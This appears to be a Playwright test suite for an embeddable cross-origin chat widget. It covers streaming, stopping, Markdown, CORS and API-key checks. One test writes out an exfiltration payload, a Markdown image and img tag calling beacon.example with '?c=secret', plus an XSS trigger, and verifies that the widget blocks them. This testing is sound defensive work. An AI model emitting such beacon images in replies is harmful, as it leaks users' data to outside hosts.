import { test, expect } from './fixtures';
import type { Page } from '@playwright/test';

// The widget on another site's page: http://127.0.0.1:3104 (another port,
// so another origin), listed in `widget.hosts` of the servers on 3100 and
// 3102. The page has one script tag and one <colloquy-chat> element.
const SHOP = 'http://127.0.0.1:3104';
test.use({ permissions: ['clipboard-read', 'clipboard-write'] });
const widget = (page: Page) => page.locator('colloquy-chat');
const box = (page: Page) => widget(page).getByLabel('Message');
const replies = (page: Page) => widget(page).locator('.cq-bot');

async function say(page: Page, text: string) {
  await box(page).fill(text);
  await box(page).press('Enter');
}

test('embedded on another site, the widget streams replies through the API', async ({ page, problems }) => {
  await page.goto(`${SHOP}/?model=test-gpt`);
  await expect(widget(page).getByText('Ask the shop')).toBeVisible();
  await say(page, 'hello from the shop');
  await expect(widget(page).locator('.cq-user')).toHaveText('hello from the shop');
  await expect(replies(page)).toHaveText('You said: hello from the shop (via openai)');

  // Token by token: part of the reply shows before the rest has come.
  await say(page, '[tokens:40] [delay:40]');
  const second = replies(page).nth(1);
  await expect(second).toContainText('t3 ');
  expect(await second.textContent()).not.toContain('t39');
  await expect(second).toHaveText(/t0 t1 .* t39\s*$/);
  await expect(box(page)).toBeEnabled();

  // The host page's styles stop at the shadow root (its `li` is red).
  expect(await replies(page).first().evaluate((el) => getComputedStyle(el).color)).not.toBe('rgb(255, 0, 0)');
  await expect(page.getByText("The host page's own list item")).toHaveCSS('color', 'rgb(255, 0, 0)');
  expect(problems).toEqual([]);
});

test('Stop ends a reply in the middle; what came stays', async ({ page, problems }) => {
  const stats = async () => (await (await page.request.get('http://127.0.0.1:3101/_test/stats')).json()).closed_early;
  const closedBefore = await stats();
  await page.goto(`${SHOP}/?model=test-gpt`);
  await say(page, '[tokens:400] [delay:40]');
  const reply = replies(page);
  await expect(reply).toContainText('t5 ');
  await widget(page).getByRole('button', { name: 'Stop' }).click();
  await expect(widget(page).getByRole('button', { name: 'Send' })).toBeVisible();
  const kept = (await reply.textContent())!.trim();
  expect(kept).toMatch(/^t0 t1 t2 t3 t4 t5/);
  await page.waitForTimeout(500);
  expect((await reply.textContent())!.trim()).toBe(kept);
  expect(kept).not.toContain('t399');
  await expect(widget(page).locator('.cq-problem')).toHaveCount(0);
  // The server let go of the model's stream too (the stand-in saw it close).
  await expect.poll(stats).toBe(closedBefore + 1);
  // The next turn goes as usual.
  await say(page, 'after the stop');
  await expect(replies(page).nth(1)).toHaveText('You said: after the stop (via openai)');
  expect(problems).toEqual([]);
});

test('without a model attribute the widget uses the first model the server offers', async ({ page, problems }) => {
  test.setTimeout(120_000);
  await page.goto(`${SHOP}/`);
  await say(page, 'Say hello.');
  await expect(replies(page)).toHaveText(/\S/, { timeout: 90_000 });
  await expect(widget(page).getByRole('button', { name: 'Send' })).toBeEnabled({ timeout: 90_000 });
  await expect(widget(page).locator('.cq-problem')).toHaveCount(0);
  expect(problems).toEqual([]);
});

test('replies render as Markdown, and a code block copies', async ({ page, problems }) => {
  await page.goto(`${SHOP}/?model=test-gpt`);
  await say(page, '[reply:markdown]');
  const reply = replies(page);
  await expect(reply.locator('table')).toBeVisible();
  await expect(reply.locator('strong')).toHaveText('bold');
  await expect(reply.locator('math').first()).toBeAttached();
  await reply.getByRole('button', { name: 'Copy code' }).click();
  await expect(reply.getByRole('button', { name: 'Copy code' })).toHaveText('Copied');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('fn main() {\n    println!("hello");\n}\n');
  expect(problems).toEqual([]);
});

test('a hostile reply runs nothing and loads nothing in the host page', async ({ page, problems }) => {
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  const beacons: string[] = [];
  await page.route('https://beacon.example/**', (route) => {
    beacons.push(route.request().url());
    return route.abort();
  });
  await page.goto(`${SHOP}/?model=test-gpt`);
  await say(page, '[reply:xss]');
  await expect(replies(page)).toContainText('end.');
  await say(page, '[reply:raw] ![leak](https://beacon.example/leak.png?c=secret) <img src="https://beacon.example/b.png">');
  await expect(replies(page).nth(1)).toContainText('leak');
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  await expect(replies(page).locator('img, script, iframe, svg')).toHaveCount(0);
  expect(dialogs).toBe(0);
  expect(beacons).toEqual([]);
  expect(problems).toEqual([]);
});

test('a reply that fails half-way keeps its text and says why', async ({ page }) => {
  await page.goto(`${SHOP}/?model=test-gpt`);
  await say(page, 'partial answer [delay:20] [fault:error-event]');
  await expect(widget(page).locator('.cq-problem')).toBeVisible();
  await expect(widget(page).locator('.cq-problem')).not.toBeEmpty();
  await expect(box(page)).toBeEnabled();
});

test('a page on an origin not listed gets neither the widget nor the API', async ({ page }) => {
  // localhost:3104 is the same server under another name: another origin.
  await page.goto('http://localhost:3104/?model=test-gpt');
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => customElements.get('colloquy-chat') === undefined)).toBe(true);
  const outcome = await page.evaluate(async () => {
    try {
      const response = await fetch('http://127.0.0.1:3100/v1/chat/completions', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ model: 'test-gpt', messages: [{ role: 'user', content: 'hi' }] }),
      });
      return `answered ${response.status}`;
    } catch {
      return 'refused';
    }
  });
  expect(outcome).toBe('refused');
});

test('on a server that needs sign-in, the widget without a key says it needs one', async ({ page }) => {
  await page.goto(`${SHOP}/?src=http://127.0.0.1:3102&model=test-gpt`);
  await say(page, 'hello');
  await expect(widget(page).locator('.cq-problem')).toContainText('API key');
  await expect(replies(page)).toHaveCount(0);
});
